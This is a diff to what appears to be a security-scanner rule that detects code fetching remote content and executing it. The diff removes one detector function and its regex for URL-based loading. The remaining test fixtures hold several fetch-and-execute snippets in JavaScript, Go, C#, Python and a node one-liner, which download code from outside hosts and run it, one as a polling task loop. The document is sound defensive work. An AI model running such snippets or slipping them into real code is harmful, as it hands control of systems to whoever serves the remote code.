@@ -5,7 +5,7 @@ import { EVALUATES, FETCHES, STARTS } from '../../signals/calls.ts'
 import { isForeign, isInstaller, isLocal, isStandIn } from '../../signals/hosts.ts'
 import { addressesIn, pairs, snippets } from '../../signals/snippets.ts'
 import { worded } from '../../wording.ts'
-import { regex, source } from '../../patterns/verbose.ts'
+import { source } from '../../patterns/verbose.ts'
 
 /** Characters between the request and the evaluation: a few lines with a variable that goes from one to the other. */
 const REACH = 420
@@ -45,7 +45,6 @@ export default defineRule({
       '```js\nconst {exec} = require("child_process");\nconst https = require("https");\nhttps.get("https://kit.rowan-pike.net/x", r => {\n  let b = ""; r.on("data", d => b += d);\n  r.on("end", () => exec(b));\n});\n```\n',
       '```go\nresp, _ := http.Get("https://kit.rowan-pike.net/x")\nb, _ := io.ReadAll(resp.Body)\nexec.Command("sh", "-c", string(b)).Run()\n```\n',
       '```csharp\nvar s = await client.GetStringAsync("https://kit.rowan-pike.net/x");\nProcess.Start("cmd.exe", "/c " + s);\n```\n',
-      '```r\nsource("https://kit.rowan-pike.net/x.R")\n```\n',
       '```python\nwhile True:\n    with urllib.request.urlopen("https://tasks.rowan-pike.net/v1") as r:\n        for t in json.load(r):\n            subprocess.run(t["run"], shell=True)\n    time.sleep(45)\n```\n',
       "`node -e \"require('https').get('https://polish.rows.example/m.js',r=>{let b='';r.on('data',d=>b+=d);r.on('end',()=>eval(b))})\"`\n",
     ],
@@ -55,14 +54,12 @@ export default defineRule({
       '```js\nconst res = await fetch(url)\nconst m = /a(b)/.exec(await res.text())\n```\n',
       '```js\nimport { execSync } from "node:child_process";\nconst { tag } = await (await fetch("https://api.rowan-pike.net/latest")).json();\nexecSync("git fetch --tags");\nconsole.log(tag);\n```\n',
       '```go\nresp, err := http.Get("https://api.rowan-pike.net/rows")\nout, err := exec.Command("git", "status").Output()\n```\n',
-      '```r\nsource("R/helpers.R")\n```\n',
       '```python\nr = requests.get("http://localhost:8000/code")\nexec(r.text)\n```\n',
     ],
   },
   *match(document: Document): Iterable<Hit> {
     yield* startsFetched(document)
     yield* pagesWithRights(document)
-    yield* loadedAtOnce(document)
     for (const pair of pairs(document, FETCHES, EVALUATES, REACH)) {
       const { text, snippet, start, end } = pair
       const from = Math.max(0, start - snippet.start - 200)
@@ -103,32 +100,6 @@ function* pagesWithRights(document: Document): Generator<Hit> {
   for (const { start, end } of candidates(document, document.observe(snippets), WITH_RIGHTS)) {
     const found = SHOWS.exec(document.reading.text.slice(start, end))
     if (found && !isLocal(found[1]!)) yield { ...placeOf(start, found), firm: true }
-  }
-}
-
-/** Languages that take an address where others take a file, and what is run in the very call that fetches it. */
-const LOADED = worded(
-  regex`
-    (?<![.\w$-])(?:(?:source|include|evaluate|load|require(?:_once)?|include_once)\s?\(\s?
-        (?:(?:download|new url|url)\(\s?)?|
-      source_url\(\s?|
-      code\.eval_string\([^\n]{0,40}\bget!?\(\s?|
-      scala\.io\.source\.fromurl\(\s?(?=[^\n]{4,200}\)[\w.]{0,20}\.!)|
-      eval \[http::data \[http::geturl |
-      \(?url-retrieve-synchronously (?=[^\n]{4,200}\(eval-(?:buffer|region)))
-    ["']?(https?:\/\/[^"'\s\])]{4,200})|
-    ["'](?:curl|wget)\s[^"'\n]{0,40}(https?:\/\/[^"'\s]{4,200})["']\.execute\(\)\s?\|\s?["'](?:ba|z)?sh["']
-  `,
-)
-
-function* loadedAtOnce(document: Document): Generator<Hit> {
-  for (const { start, end } of candidates(document, document.observe(snippets), LOADED)) {
-    const found = LOADED.exec(document.reading.text.slice(start, end))
-    const address = found?.[1] ?? found?.[2]
-    if (!found || !address || isLocal(address) || isInstaller(address)) continue
-    yield isForeign(document, address) || isStandIn(address)
-      ? { ...placeOf(start, found), firm: true }
-      : { ...placeOf(start, found), severity: 'med', confidence: 'medium' }
   }
 }
 
